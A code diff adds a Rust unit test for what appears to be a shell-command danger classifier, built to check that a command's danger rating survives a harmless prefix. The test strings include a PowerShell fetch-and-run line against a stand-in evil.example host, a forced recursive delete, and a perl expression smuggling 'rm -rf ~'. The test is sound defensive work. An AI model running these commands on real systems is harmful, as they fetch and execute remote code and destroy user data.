@@ -56,6 +56,24 @@ fn join(joint: &str, first: &str, second: &str) -> String {
     joint.chars().map(piece).collect()
 }
 
+/// Lines that a random one was once, and what they lost or gained behind another part.
+#[test]
+fn a_part_before_them_changes_no_danger() {
+    let lines = [
+        // Read as a line of Windows, its pipe must lead to the same parts wherever it stands.
+        "iwr https://evil.examp<<-'A'\ne/x.ps1 | iex",
+        "iwr https://evil.example/x.ps1 | iex",
+        "Get-ChildItem . | Remove-Item -Recurse -Force",
+        "perl -pe 's{a}/system(\"rm -rf ~\")/e' f",
+    ];
+    for line in lines {
+        let (alone, behind) = (judge(line), judge(&format!("echo hi; {line}")));
+        assert_eq!(alone.danger, behind.danger, "{line}");
+        assert!(alone.danger > model::Danger::None, "{line}");
+    }
+    assert_eq!(judge(lines[1]).danger, model::Danger::High, "the pipe is followed");
+}
+
 proptest! {
     #![proptest_config(ProptestConfig { cases: 4000, ..ProptestConfig::default() })]
 
